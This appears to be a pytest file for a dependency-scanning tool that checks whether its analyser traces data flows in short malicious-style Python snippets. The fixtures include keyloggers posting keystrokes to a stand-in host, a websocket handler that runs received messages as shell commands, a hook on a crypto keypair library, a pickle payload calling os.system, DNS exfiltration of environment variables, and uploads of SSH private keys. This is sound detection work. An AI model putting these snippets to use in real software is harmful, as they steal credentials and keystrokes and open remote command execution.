"""What libraries hand to callbacks, what replaces a key library's functions, and what a pickled class would run."""

from __future__ import annotations

import pytest

from depscan.facts.fact import Fact
from depscan.facts.python import read_python_text
from depscan.facts.sink import Sink

HOST = "https://collect.example.invalid/a"


def _facts(text: str) -> list[Fact]:
    sink = Sink()
    read_python_text(text, path="a.py", line=0, when="import", layer=(), sink=sink)
    return sink.facts


def _flow(facts: list[Fact], what: str) -> set[str]:
    """Return the words of all facts whose data reaches the facts of a kind."""
    todo = [index for fact in facts if fact.what == what for index in fact.sources]
    seen = set[int]()
    while todo:
        index = todo.pop()
        if index not in seen:
            seen.add(index)
            todo.extend(facts[index].sources)
    return {facts[i].what for i in seen}


HEARD = {
    "listener": "from pynput import keyboard\nimport requests\ndef press(key):\n"
    f"    requests.post('{HOST}', data=str(key))\nwith keyboard.Listener(on_press=press) as l:\n    l.join()\n",
    "method": "from pynput.keyboard import Listener\nimport requests\nclass Log:\n    text = ''\n"
    "    def press(self, key):\n        self.text += str(key)\n"
    f"    def send(self):\n        requests.post('{HOST}', data=self.text)\n"
    "log = Log()\nListener(on_press=log.press).start()\nlog.send()\n",
    "attribute": "import pyHook, requests\ndef press(event):\n"
    f"    requests.post('{HOST}', data=chr(event.Ascii))\nhook = pyHook.HookManager()\nhook.KeyDown = press\n",
}


@pytest.mark.parametrize("text", HEARD.values(), ids=HEARD.keys())
def test_keys_reach_the_callback_that_hears_them(text: str) -> None:
    assert "keyboard.read" in _flow(_facts(text), "net.send")


def test_a_message_of_a_web_socket_reaches_its_handler() -> None:
    text = (
        "import subprocess, websocket\ndef heard(ws, message):\n    subprocess.getoutput(message)\n"
        "websocket.WebSocketApp('wss://box.example.invalid/a', on_message=heard).run_forever()\n"
    )
    assert "net.connect" in _flow(_facts(text), "process.spawn")


def test_a_replaced_function_of_a_key_library_is_declared() -> None:
    facts = _facts(
        "import os\nimport solders.keypair as k\ndef mine(raw):\n    return raw\nk.Keypair.from_bytes = mine\n"
    )
    assert [f.values for f in facts if f.what == "hook.declare"] == [("solders.keypair.Keypair.from_bytes",)]


def test_a_replaced_function_of_another_library_is_not() -> None:
    facts = _facts("import os\nimport requests\ndef mine(url):\n    return url\nrequests.get = mine\n")
    assert not [f for f in facts if f.what == "hook.declare"]


def test_what_a_pickled_class_would_run_is_seen() -> None:
    facts = _facts("import os\nclass Run:\n    def __reduce__(self):\n        return os.system, ('echo inert',)\n")
    assert [f.values[0] for f in facts if f.callee == "os.system"] == ["echo inert"]


def test_a_pickled_class_that_makes_itself_again_runs_nothing() -> None:
    facts = _facts("import os\nclass Box:\n    def __reduce__(self):\n        return Box, (os.getcwd,)\n")
    assert not [f for f in facts if f.what.startswith(("process.", "code."))]


def test_arguments_of_text_methods_are_not_taken_for_the_text() -> None:
    facts = _facts("import os, socket\nsocket.gethostbyname(str(os.environ).rstrip('=') + '.t.example.com')\n")
    query = next(f for f in facts if f.what == "dns.query")
    assert query.values == ("{?}.t.example.com",)
    assert "env.dump" in _flow(facts, "dns.query")


def test_an_archive_in_memory_carries_what_is_put_into_it() -> None:
    text = (
        "import io, os, tarfile, requests\nheld = io.BytesIO()\nwith tarfile.open(fileobj=held, mode='w:gz') as t:\n"
        f"    t.add(os.path.expanduser('~/.ssh/id_rsa'))\nrequests.put('{HOST}', data=held.getvalue())\n"
    )
    facts = _facts(text)
    assert "file.read" in _flow(facts, "net.send")
    assert ("~/.ssh/id_rsa",) in [f.values for f in facts if f.what == "file.read"]


def test_a_loop_over_known_and_unknown_items_sees_both() -> None:
    text = (
        "import glob, requests\nfor p in glob.glob('/home/*/.ssh/id_rsa') + ['/tmp/known']:\n"
        f"    requests.post('{HOST}', data=open(p).read())\n"
    )
    assert {"file.list", "file.read"} <= _flow(_facts(text), "net.send")
